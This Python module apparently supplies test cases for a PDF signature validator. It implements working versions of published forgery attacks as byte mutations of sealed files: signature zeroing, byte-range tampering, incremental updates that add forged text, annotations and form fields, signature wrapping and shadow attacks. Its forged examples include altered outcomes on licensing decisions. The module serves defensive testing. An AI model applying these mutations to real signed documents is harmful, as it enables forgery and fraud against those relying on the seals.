"""The published attacks on PDF signatures, as byte-level mutations of a sealed file.

Named after Mladenov et al., "1 Trillion Dollar Refund – How To Spoof PDF Signatures"
(CCS 2019: universal signature forgery, incremental saving attack, signature wrapping) and
Mainka et al., "Shadow Attacks" (NDSS 2021: hide, replace, hide-and-replace). Each function
takes a genuine sealed PDF and returns the attacker's file.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]\s*")
FORGED_TEXT = b"BT /F1+0 28 Tf 80 500 Td (FORGED) Tj ET"


def byte_range(pdf: bytes) -> tuple[int, int, int, int, re.Match[bytes]]:
    match = _BYTE_RANGE.search(pdf)
    assert match is not None
    a, b, c, d = (int(x) for x in match.groups())
    return a, b, c, d, match


def set_byte_range(pdf: bytes, values: tuple[int, int, int, int]) -> bytes:
    """``pdf`` with the seal's /ByteRange text replaced by ``values``, same width."""
    *_, match = byte_range(pdf)
    text = ("/ByteRange [" + " ".join(str(v) for v in values) + "]").encode()
    width = match.end() - match.start()
    assert len(text) <= width
    return pdf[: match.start()] + text.ljust(width) + pdf[match.end() :]


def incremental(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """An incremental update of ``pdf`` made by ``change`` (the attacker's editor)."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    change(writer)
    out = BytesIO()
    writer.write(out)
    return pdf + out.getvalue()[len(pdf) :] if out.getvalue().startswith(pdf) else out.getvalue()


def page_ref(writer: IncrementalPdfFileWriter) -> generic.Reference:
    kids = writer.root["/Pages"]["/Kids"]
    return kids.raw_get(0).reference


def _stream(data: bytes) -> generic.StreamObject:
    return generic.StreamObject(stream_data=data)


# --- Universal signature forgery (USF) -----------------------------------------------------


def usf_contents_zeroed(pdf: bytes) -> bytes:
    """USF: the signature value replaced by zeros (a validator that does not parse it
    may still say 'signed')."""
    _, b, c, _, _ = byte_range(pdf)
    return pdf[: b + 1] + b"0" * (c - b - 2) + pdf[c - 1 :]


def usf_byte_range_nulled(pdf: bytes) -> bytes:
    """USF: /ByteRange made empty, so nothing is covered at all."""
    return set_byte_range(pdf, (0, 0, 0, 0))


# --- Incremental saving attack (ISA) -------------------------------------------------------


def isa_new_content(pdf: bytes) -> bytes:
    """ISA: a new revision appends a content stream to the page that draws new text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        ref = page_ref(writer)
        page = writer.get_object(ref)
        extra = writer.add_object(_stream(FORGED_TEXT))
        old = page.raw_get("/Contents")
        page["/Contents"] = generic.ArrayObject([old, extra])
        writer.mark_update(ref)

    return incremental(pdf, change)


def isa_rewrite_content(pdf: bytes) -> bytes:
    """An incremental update that rewrites the page's own content stream object."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.get_object(page_ref(writer))
        contents = page.raw_get("/Contents")
        assert isinstance(contents, generic.IndirectObject)
        writer.objects[(contents.generation, contents.idnum)] = _stream(FORGED_TEXT)

    return incremental(pdf, change)


def isa_annotation_over_text(pdf: bytes) -> bytes:
    """An incremental update adding a FreeText annotation over the case number."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        ref = page_ref(writer)
        page = writer.get_object(ref)
        annot = generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Annot"),
                generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
                generic.NameObject("/Rect"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (60, 640, 540, 680)]
                ),
                generic.NameObject("/Contents"): generic.TextStringObject("案件编号：FORGED-0001"),
                generic.NameObject("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
            }
        )
        annots = generic.ArrayObject([writer.add_object(annot)])
        if "/Annots" in page:
            annots = generic.ArrayObject([*page["/Annots"], *annots])
        page["/Annots"] = annots
        writer.mark_update(ref)

    return incremental(pdf, change)


def isa_form_field_over_text(pdf: bytes) -> bytes:
    """An incremental update adding a filled text field (widget) over the outcome line."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        ref = page_ref(writer)
        page = writer.get_object(ref)
        widget = generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Annot"),
                generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
                generic.NameObject("/FT"): generic.NameObject("/Tx"),
                generic.NameObject("/T"): generic.TextStringObject("outcome"),
                generic.NameObject("/V"): generic.TextStringObject("不予行政许可"),
                generic.NameObject("/Rect"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (60, 560, 540, 590)]
                ),
                generic.NameObject("/P"): generic.IndirectObject(ref.idnum, ref.generation, writer),
            }
        )
        widget_ref = writer.add_object(widget)
        annots = [*page["/Annots"]] if "/Annots" in page else []
        page["/Annots"] = generic.ArrayObject([*annots, widget_ref])
        writer.mark_update(ref)
        form = writer.root["/AcroForm"]
        form["/Fields"] = generic.ArrayObject([*form.raw_get("/Fields"), widget_ref])
        writer.update_container(form)

    return incremental(pdf, change)


def swap_receipt(pdf: bytes, receipt: bytes) -> bytes:
    """An incremental update that replaces the attached case-receipt.json with another."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        names = writer.root["/Names"]
        tree = names["/EmbeddedFiles"]
        spec = tree["/Names"][1]
        embedded = spec["/EF"]
        new_file = writer.add_object(
            generic.StreamObject(
                {generic.NameObject("/Type"): generic.NameObject("/EmbeddedFile")},
                stream_data=receipt,
            )
        )
        embedded["/F"] = new_file
        embedded["/UF"] = new_file
        writer.update_container(spec)

    return incremental(pdf, change)


# --- Signature wrapping attack (SWA) -------------------------------------------------------


def swa_wrap_injected_bytes(pdf: bytes) -> bytes:
    """SWA: attacker content placed in the excluded gap after the signature value, file length
    and byte range unchanged, so every signed byte is still the original and the digest holds.
    The gap then holds more than the signature value: extra entries of the signature
    dictionary that a reader may act on."""
    _, b, c, _, _ = byte_range(pdf)
    hex_value = pdf[b + 1 : c - 1]
    der_length = 4 + int(hex_value[4:8], 16)  # a CMS SEQUENCE with a two-byte length
    signature = hex_value[: 2 * der_length]
    head = b"<" + signature + b"> /Forged (FORGED) /Pad <"
    gap = head + b"0" * (c - b - len(head) - 1) + b">"
    assert len(gap) == c - b
    return pdf[:b] + gap + pdf[c:]


def byte_range_short_tail(pdf: bytes) -> bytes:
    """The byte range stops 200 bytes short of the signed revision's end."""
    a, b, c, d, _ = byte_range(pdf)
    return set_byte_range(pdf, (a, b, c, d - 200))


def trailing_garbage(pdf: bytes) -> bytes:
    """Bytes appended after the last %%EOF, outside every revision."""
    return pdf + b"\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"


# --- Shadow attacks -------------------------------------------------------------------------


def shadow_hide(pdf_with_overlay: bytes) -> bytes:
    """Shadow 'hide': the sealed page draws a white cover over part of its text (a second
    content stream); the attacker's update drops that stream, revealing what was under it."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        ref = page_ref(writer)
        page = writer.get_object(ref)
        contents = page.raw_get("/Contents")
        assert isinstance(contents, generic.ArrayObject)
        page["/Contents"] = generic.ArrayObject(list(contents)[:1])
        writer.mark_update(ref)

    return incremental(pdf_with_overlay, change)


def shadow_replace(pdf: bytes) -> bytes:
    """Shadow 'replace': the update overwrites the embedded font object the text uses, so
    the same codes show other glyphs."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.get_object(page_ref(writer))
        fonts = page["/Resources"]["/Font"]
        name = next(iter(fonts.keys()))
        font_ref = fonts.raw_get(name)
        assert isinstance(font_ref, generic.IndirectObject)
        font = font_ref.get_object()
        swapped = generic.DictionaryObject(dict(font))
        swapped["/BaseFont"] = generic.NameObject("/Helvetica")
        del swapped["/ToUnicode"]
        writer.objects[(font_ref.generation, font_ref.idnum)] = swapped

    return incremental(pdf, change)


def shadow_hide_and_replace(pdf_with_shadow: bytes, shadow_idnum: int) -> bytes:
    """Shadow 'hide-and-replace': the sealed file already holds an unused content stream with
    other text (object ``shadow_idnum``); the update only points the page at it."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        ref = page_ref(writer)
        page = writer.get_object(ref)
        page["/Contents"] = generic.IndirectObject(shadow_idnum, 0, writer)
        writer.mark_update(ref)

    return incremental(pdf_with_shadow, change)


# --- Plain damage ---------------------------------------------------------------------------


def flip_signed_byte(pdf: bytes) -> bytes:
    """One byte changed inside the signed range (in the first content stream's data)."""
    at = pdf.index(b"stream", pdf.index(b"/Contents")) + 40
    return pdf[:at] + bytes([pdf[at] ^ 0x01]) + pdf[at + 1 :]


def edit_receipt_in_place(pdf: bytes) -> bytes:
    """A byte of the attached receipt's (compressed) stream changed inside the signed range."""
    spec = pdf.index(b"/EmbeddedFile")
    at = pdf.index(b"stream", spec) + 60
    return pdf[:at] + bytes([pdf[at] ^ 0x20]) + pdf[at + 1 :]


def signature_padding_used(pdf: bytes) -> bytes:
    """Unsigned bytes hidden in the zero padding after the signature value."""
    _, _, c, _, _ = byte_range(pdf)
    hidden = b"464F52474544"  # "FORGED"
    return pdf[: c - 1 - len(hidden)] + hidden + pdf[c - 1 :]


# --- Metadata changed after the seal ---------------------------------------------------------

RETITLED = "准予行政许可决定书（有效期至2099年12月31日）"


def metadata_retitled(pdf: bytes) -> bytes:
    """An update that rewrites the document information's title (what a viewer shows in its
    title bar and properties), leaving pages and the sealed revision alone."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        info_ref = writer.trailer.raw_get("/Info")
        assert isinstance(info_ref, generic.IndirectObject)
        info = generic.DictionaryObject(dict(info_ref.get_object()))
        info["/Title"] = generic.TextStringObject(RETITLED)
        writer.objects[(info_ref.generation, info_ref.idnum)] = info

    return incremental(pdf, change)


def xmp_retitled(pdf: bytes) -> bytes:
    """An update that rewrites the XMP metadata stream with another dc:title."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        xmp_ref = writer.root.raw_get("/Metadata")
        assert isinstance(xmp_ref, generic.IndirectObject)
        xmp = xmp_ref.get_object()
        data = xmp.data.replace("准予行政许可决定书".encode(), RETITLED.encode(), 1)
        stream = generic.StreamObject(dict(xmp), stream_data=data)
        writer.objects[(xmp_ref.generation, xmp_ref.idnum)] = stream

    return incremental(pdf, change)


def metadata_dates_updated(pdf: bytes) -> bytes:
    """What a validation-data writer does: only /ModDate and /Producer of /Info change."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        info_ref = writer.trailer.raw_get("/Info")
        assert isinstance(info_ref, generic.IndirectObject)
        info = generic.DictionaryObject(dict(info_ref.get_object()))
        info["/ModDate"] = generic.TextStringObject("D:20261125080000Z")
        info["/Producer"] = generic.TextStringObject("another PDF library 1.0")
        writer.objects[(info_ref.generation, info_ref.idnum)] = info

    return incremental(pdf, change)
